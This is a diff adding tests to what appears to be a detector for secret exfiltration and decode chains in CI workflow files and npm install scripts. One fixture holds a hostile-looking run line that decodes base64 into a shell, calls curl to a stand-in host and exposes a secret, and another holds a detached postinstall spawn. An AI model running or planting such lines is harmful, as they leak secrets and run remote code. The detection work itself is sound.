@@ -182,6 +182,46 @@ def test_workflow_exfiltration(spark):
     assert sorted(map(tuple, MF.workflow_exfiltration(df).collect())) == [("decode", "decode_chain"), ("env", "secret_exfiltration"), ("send", "secret_exfiltration")]
 
 
+def test_workflow_exfiltration_reads_files_and_names_steps(spark, tmp_path):
+    """Every step that sends or decodes has a row with its job and place: steps that run nothing count, a job's secret
+    holds for its steps, what is no YAML is read as text, files elsewhere are none. Its SQL says the same, nulls too."""
+    import duckdb
+
+    from tarnwatch.plans import mechanism_queries as Q
+
+    send, plain, decode, bare, env = 0, 2, 3, 7, 1  # places in RUNS and ENVS
+    rows = [(52, send, 0, 1), (52, send, 0, 2), (52, bare, 0, 3), (52, decode, 0, 6), (1, bare, 0, 3), (5, plain, 0, 1), (5, bare, env, 2), (5, decode, 0, 4), (16, None, 0, 1), (16, send, None, 1), (None, decode, env, None)]
+    spark.createDataFrame(rows, "l_orderkey long, l_partkey long, l_suppkey long, l_linenumber int").write.parquet(str(tmp_path / "lineitem.parquet"))
+    df = Q.QUERIES["workflow_exfiltration"](spark, str(tmp_path))
+    assert df.columns == ["path", "job", "step", "kind"]
+    at = lambda o, name="ci.yml": f"r{o}/.github/workflows/{name}"
+    want = {
+        (at(52), "build", 1, "secret_exfiltration"), (at(52), "build", 2, "secret_exfiltration"), (at(52), "deploy", 1, "secret_exfiltration"), (at(52), "deploy", 2, "decode_chain"),
+        (at(5), "build", 2, "secret_exfiltration"), (at(5), "build", 3, "decode_chain"), (at(5, "old.yaml"), None, 2, "decode_chain"), (at(16), "build", 2, "secret_exfiltration"),
+        (at(16, "old.yaml"), None, 0, "secret_exfiltration"), (at(""), "build", 1, "decode_chain"),
+    }
+    got = list(map(tuple, df.collect()))
+    assert len(got) == len(want) and set(got) == want
+    con = duckdb.connect()
+    con.execute(f"CREATE VIEW lineitem AS SELECT * FROM '{tmp_path}/lineitem.parquet/*.parquet'")
+    told = con.execute(Q.ORACLE["workflow_exfiltration"]).fetchall()
+    assert len(told) == len(want) and set(told) == want
+
+
+def test_exfiltrating_steps_that_do_both(spark):
+    s = spark.createDataFrame([("p", "j", 4, "base64 -d | sh; curl http://e.example", {"A": "${{ secrets.A }}"}), ("p", None, 0, None, None)], "path string, job string, step int, run string, env map<string,string>")
+    assert sorted(map(tuple, MF.exfiltrating_steps(s).collect())) == [("p", "j", 4, "decode_chain"), ("p", "j", 4, "secret_exfiltration")]
+
+
+def test_workflow_steps_of_odd_files(spark):
+    """Files nested too deeply, with dates that are none, or built otherwise after some steps: run lines alone, each once."""
+    run = "jobs:\n  t:\n    steps:\n      - run: npm ci\n"
+    texts = {"deep": run + "x: " + "[" * 100_000 + "]" * 100_000, "date": run + "x: 2024-13-45\n", "half": run + "      - {run: b, env: [c]}\n      - run: d\n", "good": run + "        env: {A: b}\n", "none": None}
+    df = spark.createDataFrame([(f"{n}/.github/workflows/a.yml", t) for n, t in texts.items()], "path string, content string")
+    got = sorted((r.path.split("/")[0], r.job or "", r.step, r.run, r.env) for r in MF.workflow_steps(df).collect())
+    assert got == [("date", "", 0, "npm ci", {}), ("deep", "", 0, "npm ci", {}), ("good", "t", 0, "npm ci", {"A": "b"}), ("half", "", 0, "npm ci", {}), ("half", "", 1, "d", {})]
+
+
 def test_campaign_signs_keep_to_their_version(spark):
     """A file of one version marks that version; files without a version mark all."""
     p = spark.createDataFrame([("a", "1", {}), ("a", "2", {"postinstall": "spawn('x', {detached: true})"}), ("b", "1", None)], "package string, version string, scripts map<string,string>")
